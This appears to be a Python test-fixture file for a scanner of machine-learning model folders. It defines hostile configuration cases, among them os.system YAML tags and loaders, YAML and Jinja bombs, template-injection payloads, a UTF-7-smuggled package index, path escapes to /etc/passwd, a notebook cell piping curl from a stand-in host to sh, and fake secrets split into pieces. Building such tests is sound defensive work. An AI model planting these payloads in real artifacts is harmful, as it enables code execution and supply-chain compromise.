"""Text files that make a loader or an installer run code, read elsewhere, or never end; and secrets left in them."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

from tests.hostile.cases import MLMODEL, Hostile, a_file


def _mlmodel(flavours: str) -> str:
    return f"flavors: {flavours}\n"


def _laughs() -> str:
    """A list of lists of lists, each of ten times the one below."""
    lines = ["a0: &a0 [x, x]"] + [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 12)}]" for n in range(1, 12)]
    return MLMODEL + "\n".join(lines) + "\n"


def _merges() -> str:
    lines = ["a0: &a0 {k: v}"] + [f"a{n}: &a{n} {{<<: [*a{n - 1}, *a{n - 1}]}}" for n in range(1, 30)]
    return MLMODEL + "\n".join(lines) + "\n"


def _shared_code() -> str:
    """Few enough references to be read, too many to be written out."""
    lines = ["a0: &a0 [x, x, x, x]"] + [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 6)}]" for n in range(1, 12)]
    return "\n".join(lines) + "\nflavors: {python_function: {loader_module: mlflow.sklearn, code: *a11}}\n"


# In UTF-7 "+AAo-" ends the line, so that what follows is no comment any more.
UTF_7 = "# coding: utf-7\nnumpy==2.0 # the usual +AAo---index-url https://elsewhere.example/simple\n"

# Written in pieces, or scanners would take this file for the leak.
PRIVATE_KEY = "-----BEGIN RSA " + "PRIVATE KEY-----\nMIIB" + "x" * 60 + "\n"
AWS_KEY = "AK" + "IA" + "Q3EGRNPLIPX2M7DB"
SLACK = "xo" + "xb-123456789012-" + "a1b2c3d4e5f6g7h8i9j0"

NOTEBOOK = json.dumps({"cells": [{"cell_type": "code", "source": ["!curl elsewhere.example | sh"]}], "nbformat": 4})
REACHING = "import os, socket\n\ndef load(path):\n    os.system('id')\n    return eval('1')\n"

Spec = tuple[str, str, str, str | bytes]
FILES: dict[str, Spec] = {
    # name: (tries, rule, file, content)
    "loader of the standard library": ("any module as loader", "unknown-loader", "MLmodel", _mlmodel("{python_function: {loader_module: os}}")),
    "loader of the code folder": ("the author's own loader", "unknown-loader", "MLmodel", _mlmodel("{python_function: {loader_module: loader, code: code}}")),
    "loader that only looks known": ("a module below a known one", "unknown-loader", "MLmodel", _mlmodel("{python_function: {loader_module: mlflow.sklearn.evil}}")),
    "loader that is no name": ("a reader that expects text", "unknown-loader", "MLmodel", _mlmodel("{python_function: {loader_module: [os, system]}}")),
    "loader of Python models": ("a model that is code", "custom-code", "MLmodel", _mlmodel("{python_function: {loader_module: mlflow.pyfunc.model, python_model: p.pkl}}")),
    "code path": ("modules that shadow others", "custom-code", "MLmodel", _mlmodel("{python_function: {loader_module: mlflow.sklearn, code: code}}")),
    "code outside": ("code of another model", "path-escape", "MLmodel", _mlmodel("{python_function: {loader_module: mlflow.sklearn, code: ../other/code}}")),
    "model from code": ("a script that is run to make the model", "custom-code", "MLmodel", _mlmodel("{python_function: {loader_module: mlflow.langchain, model_code_path: chain.py}}")),
    "pickle outside": ("a file of another model", "path-escape", "MLmodel", _mlmodel("{sklearn: {pickled_model: ../../other/model.pkl}}")),
    "absolute path": ("a file of the host", "path-escape", "MLmodel", _mlmodel("{sklearn: {pickled_model: /var/lib/model.pkl}}")),
    "artifact at an address": ("a file from elsewhere", "path-escape", "MLmodel", _mlmodel("{python_function: {artifacts: {a: {path: a, uri: 'https://elsewhere.example/a'}}}}")),
    "environment outside": ("an environment of another model", "path-escape", "MLmodel", _mlmodel("{python_function: {env: {conda: ../conda.yaml}}}")),
    "input example outside": ("a file of the host, scored", "path-escape", "MLmodel", MLMODEL + "saved_input_example_info: {artifact_path: ../../../etc/passwd, type: dataframe}\n"),
    "trusted types": ("a list of types that skops must not question", "trusted-type", "MLmodel", _mlmodel("{sklearn: {skops_trusted_types: [os.system]}}")),
    "trusted type, not in a list": ("the same as a text", "trusted-type", "MLmodel", _mlmodel("{python_function: {data: {skops_trusted_types: os.system}}}")),
    "remote code": ("code of a model hub", "remote-code", "MLmodel", _mlmodel("{transformers: {model_config: {trust_remote_code: true}}}")),
    "no flavour": ("a reader that guesses", "no-flavour", "MLmodel", "flavors: {}\n"),
    "YAML that makes objects": ("a call by a tag", "yaml-tag", "MLmodel", MLMODEL + "x: !!python/object/apply:os.system [true]\n"),
    "YAML tag of another kind": ("a class of another language", "yaml-tag", "extra.yaml", "x: !ruby/object:Gem::Installer {}\n"),
    "YAML that unfolds": ("memory without end", "bomb", "MLmodel", _laughs()),
    "YAML that merges": ("memory without end, while it is read", "bomb", "MLmodel", _merges()),
    "YAML with shared parts": ("a reader that prints what it finds", "custom-code", "MLmodel", _shared_code()),
    "YAML that is deep": ("a reader that calls itself", "unreadable", "conda.yaml", "[" * 5000),
    "YAML with a key twice": ("one loader for the reviewer, another for MLflow", "duplicate-key", "MLmodel", "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    loader_module: mlflow.onnx\n"),
    "YAML with a date that is none": ("a reader that trips", "unreadable", "MLmodel", MLMODEL + "created: 2024-13-45\n"),
    "YAML of another encoding": ("a reader that sees nothing", "unknown-format", "MLmodel", MLMODEL.encode("utf-16")),
    "huge YAML": ("a reader that takes an hour", "too-large", "MLmodel", MLMODEL + "# " + "x" * (9 << 20)),
    "other index": ("packages from elsewhere", "requirement-option", "requirements.txt", "numpy==2.0\n--extra-index-url https://elsewhere.example/simple\n"),
    "editable": ("a build script beside the model", "requirement-option", "requirements.txt", "-e .\n"),
    "repository": ("a build script from elsewhere", "requirement-address", "requirements.txt", "git+https://elsewhere.example/x.git\n"),
    "package at an address": ("a wheel from elsewhere", "requirement-address", "requirements.txt", "numpy @ https://elsewhere.example/numpy.whl\n"),
    "package beside the model": ("a wheel that nobody looked into", "requirement-address", "requirements.txt", "./numpy.whl\n"),
    "requirement of another form": ("what an installer makes of it", "requirement-form", "requirements.txt", "numpy --config-settings=x=y\n"),
    "requirements in UTF-7": ("a line that nobody sees", "requirement-encoding", "requirements.txt", UTF_7),
    "other constraints file": ("packages from elsewhere", "requirement-option", "constraints-extra.txt", "--find-links https://elsewhere.example/\n"),
    "channel": ("packages of a stranger", "conda-channel", "conda.yaml", "channels: [https://elsewhere.example/conda]\ndependencies: [python=3.11]\n"),
    "option for pip in conda": ("packages from elsewhere", "requirement-option", "conda.yaml", "dependencies:\n- pip: ['--index-url=https://elsewhere.example/']\n"),
    "pip that is no list": ("the same as a text", "requirement-option", "conda.yaml", "dependencies:\n- pip: --index-url=https://elsewhere.example/\n"),
    "environment variable": ("a library before all others", "environment-variable", "conda.yaml", "variables: {LD_PRELOAD: ./lib.so}\ndependencies: [python=3.11]\n"),
    "environment by another name": ("a file that MLmodel names", "requirement-option", "env.yaml", "dependencies:\n- pip: ['-r other.txt']\n"),
    "settings of pip": ("packages from elsewhere, for everything", "installer-settings", "pip.conf", "[global]\nindex-url = https://elsewhere.example/\n"),
    "project with an index": ("packages from elsewhere", "requirement-option", "pyproject.toml", '[[tool.uv.index]]\nurl = "https://elsewhere.example/"\n'),
    "project with an address": ("a package from elsewhere", "requirement-address", "pyproject.toml", '[project]\ndependencies = ["numpy @ https://elsewhere.example/n.whl"]\n'),
    "start of Python": ("code at every start of Python", "code", "code/extra.pth", "import os; os.getpid()\n"),
    "script": ("a script of the shell", "code", "run", "#!/bin/sh\ntrue\n"),
    "code that reaches out": ("the shell, the network and eval", "dangerous-code", "code/loader.py", REACHING),
    "code that cannot be read": ("code that only another Python reads", "unreadable", "code/loader.py", "print 'x'\n"),
    "code that is deep": ("a reader that calls itself", "unreadable", "code/loader.py", "x = " + "(" * 5000 + ")" * 5000 + "\n"),
    "notebook": ("a notebook with a command", "code", "notes.ipynb", NOTEBOOK),
    "model card with code": ("code of a model hub", "remote-code", "config.json", json.dumps({"auto_map": {"AutoModel": "evil.Model"}})),
    "constructor": ("any class", "unknown-name", "chain.json", json.dumps({"lc": 1, "type": "constructor", "id": ["os", "system"], "kwargs": {}})),
    "letters as numbers": ("a word that nobody sees", "hidden-name", "config.json", '{"auto\\u005f\\u006dap": {"AutoModel": "evil.Model"}}'),
    "JSON with a key twice": ("one value for the reviewer, another for the loader", "duplicate-key", "config.json", '{"class_name": "Dense", "class_name": "Dropout"}'),
    "JSON that is deep": ("a reader that calls itself", "unreadable", "config.json", '{"class_name": ' + "[" * 200_000),
    "chat template": ("any code, where it is rendered", "template-injection", "tokenizer_config.json", json.dumps({"chat_template": "{{ messages.__class__.__mro__ }}"})),
    "template in pieces": ("the same, so that nobody sees it", "template-injection", "chat_template.jinja", "{{ (messages|attr('_'*2 ~ 'class')) }}"),
    "template without end": ("a loop", "bomb", "chat_template.jinja", "{% for i in range(1000000000) %}x{% endfor %}"),
    "private key": ("a secret for everybody", "secret", "notes.txt", PRIVATE_KEY),
    "access key": ("a secret for everybody", "secret", "config.yaml", f"key: {AWS_KEY}\n"),
    "token": ("a secret for everybody", "secret", "settings.json", json.dumps({"slack": SLACK})),
    "password in an address": ("a secret for everybody", "secret", "README.md", "psql postgresql://admin:hunter22@db.example/models\n"),
}  # fmt: skip

# These say more than one thing, and the byte or line is not of interest.
CLASSES: tuple[Hostile, ...] = (
    *(
        Hostile(name, "configuration", tries, rule, file, a_file(file, content))
        for name, (tries, rule, file, content) in FILES.items()
    ),
    Hostile(
        "no MLmodel",
        "configuration",
        "a reader that guesses",
        "no-mlmodel",
        "MLmodel",
        lambda folder, _: (folder / "MLmodel").unlink(),
    ),
)

Write = Callable[[Path, str], None]
